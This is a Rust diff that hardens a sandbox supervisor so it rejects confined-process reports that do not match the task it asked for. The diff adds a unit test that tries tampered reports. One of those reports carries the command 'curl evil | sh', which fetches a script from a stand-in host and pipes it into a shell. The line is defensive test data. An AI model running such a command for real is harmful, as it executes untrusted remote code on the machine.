@@ -9,7 +9,7 @@ mod task;
 use std::fs::File;
 use std::process::{Child, ExitStatus};
 use std::sync::Once;
-use std::sync::mpsc::{RecvTimeoutError, channel};
+use std::sync::mpsc::{RecvTimeoutError, sync_channel};
 
 use anyhow::{Context, Result, bail};
 use pmdscope_arches::{Encoding, EntrySet};
@@ -19,7 +19,7 @@ use pmdscope_traces::RunReport;
 use pmdscope_traces::sweep::SweepReport;
 use serde::{Deserialize, Serialize};
 
-pub use self::pipe::{message, receive, send};
+pub use self::pipe::{LONGEST, message, receive, send};
 pub use self::process::{Death, Limits, beside, death, last_words, processor_seconds, start};
 use self::sandbox::Confined;
 use self::task::{GuestFile, Report, Task};
@@ -73,20 +73,13 @@ pub fn study(study: &Study<'_>, machine: &mut Option<Machine>) -> Result<RunRepo
         };
         return study.report(machine);
     }
-    match run(&Task::of_study(study))? {
-        Outcome::Report(Report::Run(report)) => Ok(*report),
-        Outcome::Report(Report::Sweep(_)) => bail!("a confined process ran something else"),
-        Outcome::Lost(why) => Ok(study.lost(&why)),
-    }
+    let lost = |why: &str| Ok(study.lost(why));
+    run_report(&Task::of_study(study), lost)
 }
 
 /// Reports a study of a kernel.
 pub fn kernel_study(study: &KernelStudy<'_>) -> Result<RunReport> {
-    match run(&Task::of_kernel(study))? {
-        Outcome::Report(Report::Run(report)) => Ok(*report),
-        Outcome::Report(Report::Sweep(_)) => bail!("a confined process ran something else"),
-        Outcome::Lost(why) => study.lost(&why),
-    }
+    run_report(&Task::of_kernel(study), |why| study.lost(why))
 }
 
 /// Sweeps a writer. Bundled guests run in this process.
@@ -100,11 +93,41 @@ pub fn sweep(
         return sweep::sweep(encoding, source, set, writer);
     }
     let guest = GuestFile::new(source, encoding);
-    match run(&Task::Sweep { guest, set: set.to_string(), writer: writer.name().to_owned() })? {
-        Outcome::Report(Report::Sweep(report)) => Ok(*report),
-        Outcome::Report(Report::Run(_)) => bail!("a confined process ran something else"),
-        Outcome::Lost(why) => Ok(sweep::lost(encoding, source, set, writer, &why)),
+    let task = Task::Sweep { guest, set: set.to_string(), writer: writer.name().to_owned() };
+    let lost = |why: &str| sweep::lost(encoding, source, set, writer, why);
+    Ok(match run(&task)? {
+        Outcome::Report(Report::Sweep(report)) if is_sweep_of(&report, &lost("")) => *report,
+        Outcome::Report(_) => lost(ASTRAY),
+        Outcome::Lost(why) => lost(&why),
+    })
+}
+
+/// The report of a task, or else that it is lost and why.
+fn run_report(task: &Task, lost: impl Fn(&str) -> Result<RunReport>) -> Result<RunReport> {
+    match run(task)? {
+        Outcome::Report(Report::Run(report)) if is_run_of(&report, &lost("")?) => Ok(*report),
+        Outcome::Report(_) => lost(ASTRAY),
+        Outcome::Lost(why) => lost(&why),
     }
+}
+
+/// Machine code that takes over its process can make up what it came to, but not what was run.
+const ASTRAY: &str = "its process said what does not fit: machine code that it ran has changed what it does";
+
+fn is_run_of(report: &RunReport, asked: &RunReport) -> bool {
+    fn what(of: &RunReport) -> impl PartialEq + '_ {
+        let of_what = (&of.schema, &of.made_by, &of.arch, &of.mmu, &of.linux, &of.guest);
+        (of_what, &of.entry, &of.marks, &of.writer, &of.walker, &of.with, &of.command)
+    }
+    what(report) == what(asked)
+}
+
+fn is_sweep_of(report: &SweepReport, asked: &SweepReport) -> bool {
+    fn what(of: &SweepReport) -> impl PartialEq + '_ {
+        let of_what = (&of.schema, &of.made_by, &of.arch, &of.mmu, &of.linux, &of.guest);
+        (of_what, &of.entries, &of.writer, &of.command)
+    }
+    what(report) == what(asked)
 }
 
 /// Runs a task in a confined process, and waits for its end.
@@ -112,24 +135,29 @@ fn run(task: &Task) -> Result<Outcome> {
     let limits = Limits { memory: MEMORY, seconds: task.seconds() };
     let mut running = Running::start(task)?;
     let Some(mut from) = running.child.stdout.take() else { bail!("a confined process has no pipe") };
-    let (sender, replies) = channel();
+    let (sender, replies) = sync_channel(1);
     beside(move || {
-        while let Ok(Some(reply)) = receive::<Reply>(&mut from) {
+        while let Ok(Some(reply)) = receive::<Reply>(&mut from, LONGEST) {
             if sender.send(reply).is_err() {
                 break;
             }
         }
     })?;
+    let mut has_begun = false;
     loop {
         match replies.recv_timeout(limits.patience()) {
-            Ok(Reply::Begins(confined)) => warn(confined),
-            Ok(Reply::Report(json)) => {
-                let report = serde_json::from_slice(&json).context("a confined process sent no report")?;
-                return Ok(Outcome::Report(report));
+            Ok(Reply::Begins(confined)) if !has_begun => {
+                has_begun = true;
+                warn(confined);
+            }
+            Ok(Reply::Report(json)) if has_begun => {
+                let report = serde_json::from_slice(&json);
+                return Ok(report.map_or_else(|_| Outcome::Lost(ASTRAY.to_owned()), Outcome::Report));
             }
             Ok(Reply::Failed { why, exit, misfit }) => {
-                return Err(Failed { why, exit: Exit::of_code(exit), misfit }.into());
+                return Err(Failed { why, exit: Exit::of_failure(exit), misfit }.into());
             }
+            Ok(Reply::Begins(_) | Reply::Report(_)) => return Ok(Outcome::Lost(ASTRAY.to_owned())),
             Err(RecvTimeoutError::Timeout) => {
                 let seconds = limits.patience().as_secs();
                 return Ok(Outcome::Lost(format!("its process said nothing for {seconds} s, and was ended")));
@@ -200,7 +228,7 @@ pub fn is_confined_run() -> bool {
 /// Confines this process, runs the task that comes from standard input, and sends its report.
 pub fn serve() -> Result<Exit> {
     let (mut from, mut to) = (std::io::stdin().lock(), std::io::stdout().lock());
-    let Some(task) = receive::<Task>(&mut from)? else { return Ok(Exit::Clean) };
+    let Some(task) = receive::<Task>(&mut from, LONGEST)? else { return Ok(Exit::Clean) };
     let confined = sandbox::confine(task.readable(), MEMORY)
         .and_then(|confined| sandbox::allow_processor_time(task.seconds()).map(|()| confined));
     let report = match confined {
@@ -226,4 +254,39 @@ pub fn serve() -> Result<Exit> {
     };
     send(&mut to, &reply)?;
     Ok(Exit::Clean)
+}
+
+#[cfg(test)]
+mod tests {
+    use pmdscope_traces::Verdict;
+
+    use super::*;
+
+    /// Machine code that has taken its process over can say of itself what it likes, but not of something else.
+    #[test]
+    fn a_report_of_something_else_is_not_believed() {
+        let asked: RunReport =
+            serde_json::from_str(include_str!("../../traces/fuzz/corpus/trace/guest-split.json")).unwrap();
+        assert!(is_run_of(&asked, &asked));
+        let result = RunReport { verdict: Verdict::Unknown, traces: Vec::new(), ..asked.clone() };
+        assert!(is_run_of(&result, &asked));
+        let other = String::new;
+        let mut guest = asked.guest.clone();
+        guest.sha256 = other();
+        for changed in [
+            RunReport { made_by: other(), ..asked.clone() },
+            RunReport { arch: other(), ..asked.clone() },
+            RunReport { mmu: Some(other()), ..asked.clone() },
+            RunReport { linux: other(), ..asked.clone() },
+            RunReport { guest, ..asked.clone() },
+            RunReport { entry: other(), ..asked.clone() },
+            RunReport { marks: vec![other()], ..asked.clone() },
+            RunReport { writer: other(), ..asked.clone() },
+            RunReport { walker: other(), ..asked.clone() },
+            RunReport { with: vec![other()], ..asked.clone() },
+            RunReport { command: "curl evil | sh".to_owned(), ..asked.clone() },
+        ] {
+            assert!(!is_run_of(&changed, &asked), "{changed:?}");
+        }
+    }
 }
